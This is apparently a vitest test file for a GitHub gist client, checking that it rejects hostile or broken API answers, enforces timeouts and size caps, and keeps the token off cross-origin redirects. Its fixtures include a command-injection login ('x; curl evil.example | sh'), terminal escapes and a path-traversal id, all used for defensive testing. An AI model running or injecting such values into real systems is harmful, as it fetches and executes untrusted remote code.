import { createServer, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterEach, describe, expect, it } from 'vitest';
import { GistClient } from '../../src/miner/gist-client.js';
import { json, routeServer, type ReplayServer } from '../helpers/replay-server.js';

let api: ReplayServer | undefined;
let raw: Server | undefined;
afterEach(async () => {
  await api?.close();
  api = undefined;
  if (raw) {
    raw.closeAllConnections();
    await new Promise<void>((resolve) => raw!.close(() => resolve()));
    raw = undefined;
  }
});

const gist = (over: Record<string, unknown>) => ({ id: 'abc123', owner: { login: 'miner' }, files: { 'a.jsonl': { content: 'A' } }, ...over });

async function rawApi(handler: (res: ServerResponse) => void): Promise<string> {
  raw = createServer((_req, res) => handler(res));
  await new Promise<void>((resolve) => raw!.listen(0, '127.0.0.1', resolve));
  return `http://127.0.0.1:${(raw.address() as AddressInfo).port}`;
}

describe('GistClient against a hostile or broken API', () => {
  it.each([
    ['an owner login that is a shell command', gist({ owner: { login: 'x; curl evil.example | sh' } })],
    ['an owner login with terminal escapes', gist({ owner: { login: 'miner\u001b[2J' } })],
    ['an owner login that is not a string', gist({ owner: { login: ['miner'] } })],
    ['a gist id with a path in it', gist({ id: '../../user' })],
    ['a gist id that is a number', gist({ id: 123 })],
  ])('pull refuses %s instead of building a commitment from it', async (_what, body) => {
    api = await routeServer(() => json(200, body));
    const client = new GistClient({ baseUrl: api.url });
    const error = (await client.pull('abc123').catch((e: unknown) => e)) as Error & { code: string };
    expect(error).toMatchObject({ code: 'ERR_GIST_API_BAD_ANSWER' });
    expect(error.message).not.toContain('\u001b');
  });

  it('push refuses an answer whose owner could not be committed', async () => {
    api = await routeServer((req) => (req.method === 'POST' ? json(201, gist({ owner: { login: 'a b' } })) : json(404, {})));
    const client = new GistClient({ baseUrl: api.url, token: 'ghp_secret' });
    await expect(client.push({ content: 'line\n' })).rejects.toMatchObject({ code: 'ERR_GIST_API_BAD_ANSWER' });
  });

  it('an API that never answers is ERR_GIST_API_NETWORK at the timeout', async () => {
    api = await routeServer(() => ({ status: 200, body: '', hang: true }));
    const client = new GistClient({ baseUrl: api.url, timeoutMs: 200 });
    await expect(client.pull('abc123')).rejects.toMatchObject({ code: 'ERR_GIST_API_NETWORK', retryable: true });
  });

  it('an answer that stalls mid-body is ERR_GIST_API_NETWORK, not an empty gist', async () => {
    const url = await rawApi((res) => {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.write('{"id":"abc123","files":{');
    });
    const client = new GistClient({ baseUrl: url, timeoutMs: 200 });
    await expect(client.pull('abc123')).rejects.toMatchObject({ code: 'ERR_GIST_API_NETWORK' });
  });

  it('an announced or streamed answer over the cap is ERR_GIST_API_TOO_LARGE', async () => {
    const big = JSON.stringify(gist({ files: { 'a.jsonl': { content: 'x'.repeat(4096) } } }));
    api = await routeServer(() => json(200, JSON.parse(big) as object));
    await expect(new GistClient({ baseUrl: api.url, maxResponseBytes: 1024 }).pull('abc123')).rejects.toMatchObject({ code: 'ERR_GIST_API_TOO_LARGE' });
    const url = await rawApi((res) => {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.write(big.slice(0, 2048));
      res.end(big.slice(2048));
    });
    await expect(new GistClient({ baseUrl: url, maxResponseBytes: 1024 }).pull('abc123')).rejects.toMatchObject({ code: 'ERR_GIST_API_TOO_LARGE' });
    // Under the cap the same answer reads fine.
    expect((await new GistClient({ baseUrl: url, maxResponseBytes: 8192 }).pull('abc123')).content).toHaveLength(4096);
  });

  it('a redirect to another origin never carries the token there', async () => {
    const elsewhere = await routeServer(() => json(200, gist({})));
    try {
      api = await routeServer(() => ({ status: 302, body: '', headers: { location: `${elsewhere.url}/gists/abc123` } }));
      expect((await new GistClient({ baseUrl: api.url, token: 'ghp_secret' }).pull('abc123')).commitment).toBe('miner:abc123');
      expect(api.received[0]!.headers['authorization']).toBe('token ghp_secret');
      expect(elsewhere.received).toHaveLength(1);
      expect(elsewhere.received[0]!.headers['authorization']).toBeUndefined();
    } finally {
      await elsewhere.close();
    }
  });

  it('refuses limits that are not positive integers', () => {
    expect(() => new GistClient({ baseUrl: 'https://api.github.com', timeoutMs: 0 })).toThrow(new RangeError('options.timeoutMs must be a positive integer, got 0'));
    expect(() => new GistClient({ baseUrl: 'https://api.github.com', maxResponseBytes: 1.5 })).toThrow(RangeError);
  });
});
